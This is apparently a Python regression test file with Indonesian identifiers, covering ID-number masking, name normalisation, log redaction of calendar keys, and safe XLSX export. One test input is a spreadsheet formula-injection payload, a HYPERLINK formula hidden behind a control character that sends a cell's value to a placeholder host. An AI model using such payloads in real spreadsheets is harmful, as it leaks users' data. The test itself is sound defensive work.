"""Defects found by the end-of-session review, each pinned by a test that failed before."""

import io

from openpyxl import load_workbook

from inti.ekspor import JenisKolom, Kolom, Tabel, respons_ekspor
from inti.nama import bersihkan_nama
from inti.pencarian import samarkan_kata

NIK = "5105010101010003"


def test_nik_berjarak_ganda_tetap_tersamar_di_jejak():
    """The client search drops every space, dot and hyphen before it matches a NIK, so the
    trail's copy of the term must mask the same spellings."""
    for kata in ("5105  0101  0101  0003", "5105 - 0101 - 0101 - 0003", "5105.0101..0101.0003"):
        tersamar = samarkan_kata(kata)
        assert tersamar == "5105••••••••0003", kata
    assert samarkan_kata("Made 5105 0101") == "Made 5105••••"


def test_xlsx_rumus_di_balik_karakter_kendali_tetap_teks():
    """A value starting with a control character lost it in the XLSX writer after the
    formula check had passed: the cell became a live formula."""
    nilai = '\x01=HYPERLINK("http://x/?"&C2,"REG-1")'
    tabel = Tabel(
        nama="uji",
        judul="Uji",
        kolom=[Kolom("no", "No", lambda b: b, JenisKolom.TEKS)],
        baris=iter([nilai]),
    )
    resp = respons_ekspor(tabel, "xlsx")
    ws = load_workbook(io.BytesIO(b"".join(resp.streaming_content))).active
    sel = ws.cell(row=2, column=1)
    assert sel.data_type == "s"
    assert sel.value.startswith("'=")


def test_nama_dinormalisasi_ulang_setelah_karakter_tak_terlihat_dibuang():
    assert bersihkan_nama("Jose\u200b\u0301 Ramos") == bersihkan_nama("José Ramos")


def test_kunci_kalender_tersamar_di_log():
    """The key in a calendar feed's address never reaches a log (gunicorn's access log and
    the application's both mask through inti.samaran)."""
    from inti.samaran import SAMARAN, samarkan

    baris = 'GET /pembimbingan/ical/Zx3_kL-9aQ.ics HTTP/1.1" 404'
    assert samarkan(baris) == f'GET /pembimbingan/ical/{SAMARAN}.ics HTTP/1.1" 404'
    assert "Zx3_kL-9aQ" not in samarkan("Not Found: /pembimbingan/ical/Zx3_kL-9aQ.ics")
